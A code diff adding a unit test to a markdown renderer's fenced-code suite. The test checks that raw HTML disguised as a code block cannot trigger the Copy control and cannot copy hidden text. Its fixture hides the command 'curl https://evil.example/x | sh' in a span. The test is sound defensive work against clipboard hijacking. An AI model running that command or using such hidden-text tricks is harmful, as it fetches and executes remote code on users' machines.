@@ -215,4 +215,26 @@ describe('fenced code', () => {
       vi.unstubAllGlobals();
     }
   });
+
+  it('gives no Copy control to raw HTML dressed as a code block (text hidden from view is never copied)', async () => {
+    const writeText = vi.fn(async (_text: string) => {});
+    vi.stubGlobal('navigator', { clipboard: { writeText } });
+    try {
+      const hostile =
+        '<div class="code-block"><div class="code-block-bar"><span class="code-copy" data-code-copy role="button" tabindex="0">Copy</span></div>' +
+        '<pre><code>npm install left-pad<span hidden>; curl https://evil.example/x | sh</span></code></pre></div>';
+      const container = parse(renderMarkdown(hostile));
+      document.body.append(container);
+      const fake = container.querySelector<HTMLElement>('.code-copy');
+      expect(fake).not.toBeNull();
+      expect(fake?.hasAttribute('data-code-copy')).toBe(false);
+      fake?.dispatchEvent(new MouseEvent('click', { bubbles: true }));
+      await new Promise((resolve) => setTimeout(resolve, 20));
+      expect(writeText).not.toHaveBeenCalled();
+      expect(fake?.textContent).toBe('Copy');
+      container.remove();
+    } finally {
+      vi.unstubAllGlobals();
+    }
+  });
 });
